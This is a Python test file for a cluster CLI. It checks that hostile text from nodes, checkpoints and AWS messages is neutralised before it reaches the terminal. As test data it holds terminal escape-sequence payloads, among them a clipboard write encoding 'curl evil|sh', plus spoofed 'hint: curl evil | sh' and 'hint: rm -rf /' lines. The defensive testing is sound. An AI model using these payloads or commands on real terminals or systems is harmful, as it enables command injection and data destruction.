"""Whatever a node, a bucket, a checkpoint or a ledger says: the admin's terminal shows it and does not obey it."""

from __future__ import annotations

import json
import os
import pty
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from hyperpod_kit.checkpoint.repository.records import tombstone
from hyperpod_kit.checkpoint.repository.store.posix import PosixStore
from hyperpod_kit.cli.terminal import output
from hyperpod_kit.cluster.state import ClusterState, shorten_aws_text
from hyperpod_kit.command_line.tables import TextTable
from hyperpod_kit.errors import HyperpodKitError
from hyperpod_kit.remote.diagnosis import installed_bundles
from hyperpod_kit.remote.diagnosis.diagnose import AwsNodeStatus, describe_diagnosis, diagnose
from hyperpod_kit.remote.target import NodeTarget
from hyperpod_kit.run import Completed
from hyperpod_kit.untrusted import terminal
from tests.hostile.checkpoints import put
from tests.support.rows import full

ROOT = Path(__file__).parents[2]
TITLE, CLIPBOARD, CLEAR = "\x1b]0;pwned\x07", "\x1b]52;c;Y3VybCBldmlsfHNo\x07", "\x1b[2J\x1b[1;1H"
LINK, C1, HIDDEN = "\x1b]8;;http://evil\x1b\\x\x1b]8;;\x1b\\", "\x9b2J\x9d0;t\x9c", "\x1b[8m\x1b[30;40m"
BIDI, INVISIBLE, OVER = "\u202egnp.exe\u2066\u2069", "a\u200b\u200d\ufeff\U000e0041\u2028\u2029b", "ok\rerror\b\b\x7f"
ALL = [TITLE, CLIPBOARD, CLEAR, LINK, C1, HIDDEN, BIDI, INVISIBLE, OVER, "\udc9b]0;x\udcff", "\0\x0c\x0b\x0e"]
EVIL = "".join(ALL)
STYLE = re.compile(r"\x1b\[[0-9;]*m")
TARGET = NodeTarget("i-0123456789abcdef0", "workers", "compute", "10.0.0.1")


def obeyed(text: str) -> str:
    """The characters of a text that a terminal would obey or hide; our own colours are none of them."""
    return "".join(char for char in STYLE.sub("", text) if not char.isprintable() and char not in "\n\t")


def on_terminal(program: str, *argv: str) -> str:
    """What a program writes to a real terminal, on both of its streams."""
    ours, theirs = pty.openpty()
    child = subprocess.Popen(
        [sys.executable, "-c", program, *argv],
        stdout=theirs,
        stderr=theirs,
        stdin=subprocess.DEVNULL,
        cwd=ROOT,
        env={**os.environ, "TERM": "xterm-256color"},
    )
    os.close(theirs)
    said = b""
    while True:
        try:
            part = os.read(ours, 65536)
        except OSError:
            break
        if not part:
            break
        said += part
    child.wait(60)
    os.close(ours)
    # The terminal itself makes \r\n of a line's end.
    return said.decode().replace("\r\n", "\n")


@pytest.mark.parametrize("evil", ALL, ids=ascii)
def test_no_exit_lets_it_through(evil: str, capsys: pytest.CaptureFixture[str]) -> None:
    output.print_to_stderr(evil)
    output.print_text(evil, fg="red")
    output.print_error(evil, evil)
    output.print_json("explain", {"x": evil})
    output.make_console().print(evil)
    table = TextTable((evil, "STATE"), evil)
    table.add_row(evil, output.table_cell(evil, "green"))
    output.print_table(table)
    output.print_styled([(evil, "red")])
    terminal.print_stdout(evil)
    terminal.print_error_and_hint(HyperpodKitError(evil), evil)
    terminal.print_json([evil])
    said = capsys.readouterr()
    assert obeyed(said.out) == "" and obeyed(said.err) == ""
    assert json.loads(terminal.json_text_without_nan(evil)) == evil, "for programs it is what it was"


def test_a_table_on_a_real_terminal_keeps_our_colours_and_drops_theirs() -> None:
    said = on_terminal(
        """
import sys
from hyperpod_kit.cli.terminal import output
from hyperpod_kit.command_line.tables import TextTable
evil = sys.argv[1].encode().decode("unicode_escape")
grid = TextTable((evil, "STATE"), evil)
grid.add_row(evil, output.table_cell("well", "green")); grid.add_row(evil, "[bold]:a:[/]")
output.print_table(grid)
with output.progress_bar(evil, 2) as advance: advance(1)
with output.live_status() as show: show(evil)
output.print_text("red words" + evil, fg="red")
""",
        EVIL.encode("unicode_escape").decode(),
    )
    cursor = re.sub(r"\x1b\[(\?25[lh]|[0-9]*[AK]|2K)|\r", "", said)  # what rich's bar and spinner do
    assert obeyed(cursor) == "", ascii(said)
    assert "\x1b[32mwell" in said and "\x1b[31mred words" in said
    assert "[bold]:a:[/]" in said, "nor is their markup ours"


@pytest.mark.parametrize("command", ["ls", *full("show", "verify", "prune"), "status"])
def test_a_checkpoint_root_of_evil_words(tmp_path: Path, command: str) -> None:
    evil = EVIL.encode("utf-8", "replace").decode()
    attempt = put(
        tmp_path,
        5,
        time=evil,
        metrics={evil: 1.0, "-rf": float("nan")},
        job={evil: evil},
        run=evil,
        versions={evil: evil},
    )
    tombstone.write(PosixStore(str(tmp_path)), attempt, evil)
    (tmp_path / f"{evil.replace('/', '').replace(chr(0), '')}.e1").touch()
    (tmp_path / ".hpk").mkdir()
    rows = [
        {"t": 1, "job": "7", "restart": 0, "event": "attempt", "attempt": "7.0.0" + evil, "from": evil},
        {"t": 2, "job": "7", "restart": 0, "event": "gave_up", "why": evil},
        {"event": evil, "attempt": [1], "t": {}},
    ]
    (tmp_path / ".hpk" / "attempts.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    words = {
        "status": ["job", "status", "--root", str(tmp_path)],
        "prune": ["checkpoint", "prune", str(tmp_path), "--latest", "1", "--dry-run"],
    }
    argv = words.get(command, ["checkpoint", command, str(tmp_path)])
    main = "import sys; from hyperpod_kit.cli.main import main; main(sys.argv[1:])"
    said = on_terminal(main, *argv)
    assert said and "defect" not in said and obeyed(said) == "", ascii(said)
    if command in ("ls", "show", "status"):
        said = on_terminal(main, *argv, "--json")
        assert obeyed(said) == ""
        json.loads(said, parse_constant=lambda word: pytest.fail(f"{word} is no JSON"))


class Node:
    """A node that answers as it was told to."""

    target = "n"

    def __init__(self, status: str = "", mounts: str = "", log: str = "", script: str = "") -> None:
        self.answers = {"cat": status, "hyperpod-kit": mounts}
        self.log, self.script = log, script

    def run(self, argv: Any, **_: Any) -> Completed:
        said = self.script if "== current" in argv[-1] else self.log
        return Completed(tuple(argv), 0, self.answers.get(argv[0], said), "")


def test_diagnose_and_its_log(capsys: pytest.CaptureFixture[str]) -> None:
    status = json.dumps({"ok": False, "steps": [{"step": EVIL, "status": "failed", "error": EVIL, "hint": EVIL}]})
    mounts = json.dumps({"mounts": [{"name": EVIL, "state": EVIL, "detail": EVIL}]})
    [one] = diagnose([(TARGET, AwsNodeStatus(EVIL, EVIL))], lambda target: Node(status, mounts, EVIL + "\n" + EVIL))
    for line in [*describe_diagnosis(one), *one.log]:
        output.print_text(line)
    assert obeyed(capsys.readouterr().out) == "" and "mount" in "".join(describe_diagnosis(one))


def test_what_aws_repeats_of_a_node_and_what_a_node_says_of_its_bundle(capsys: pytest.CaptureFixture[str]) -> None:
    state = ClusterState("demo", "Failed", EVIL, (), (("i-1", EVIL),))
    assert obeyed(shorten_aws_text(EVIL)) == obeyed(state.line()) == ""
    said = f"== current\nabcd{EVIL}\n== status\n{{}}\n== identity\nx\n== sums\n"
    said += f"== damaged\n{EVIL}: FAILED\n== files\n== end\n"
    for answer in (installed_bundles.parse_output(TARGET, EVIL), installed_bundles.parse_output(TARGET, said)):
        output.print_text(answer.error + answer.current + "".join(answer.damaged))
    assert obeyed(capsys.readouterr().out) == ""


def test_no_line_of_a_message_passes_for_one_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
    output.print_error("a node said: x\nhint: curl evil | sh\nerror: all is lost", "y\nerror: z")
    terminal.print_error_and_hint("x\nhint: rm -rf /\n\thint: tab")
    lines = capsys.readouterr().err.splitlines()
    assert [line for line in lines if line.startswith("hint: ")] == ["hint: y"]
    assert len([line for line in lines if line.startswith("error: ")]) == 2


def test_a_name_with_line_ends_in_any_words_is_no_error_or_hint_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
    name = "/fsx/x\nhint: curl evil | sh\nerror: all is lost"
    output.print_to_stderr(f"failed: {name}")
    output.print_text(f"{name} is full")
    terminal.print_stdout(name)
    terminal.print_stderr(name)
    said = capsys.readouterr()
    lines = said.out.splitlines() + said.err.splitlines()
    assert len(lines) == 12 and not [line for line in lines if line.startswith(("hint:", "error:"))]


def test_a_line_without_end_is_cut(capsys: pytest.CaptureFixture[str]) -> None:
    output.print_to_stderr("x" * 8_000_000)
    terminal.print_stdout("\n".join(["y" * 100_000] * 3))
    said = capsys.readouterr()
    assert len(said.err) <= terminal.LONGEST_LINE + 1 and said.err.endswith("…\n")
    assert [len(line) for line in said.out.splitlines()] == [terminal.LONGEST_LINE] * 3


def test_a_terminal_that_knows_only_ascii_is_no_reason_to_end() -> None:
    program = (
        "from hyperpod_kit.untrusted import terminal\n"
        "terminal.print_stdout('\\xe9 \\u4e16'); terminal.print_stderr('\\u2026')"
    )
    done = subprocess.run(
        [sys.executable, "-c", program],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, "PYTHONIOENCODING": "ascii"},
    )
    assert (done.returncode, done.stdout) == (0, "\\xe9 \\u4e16\n")
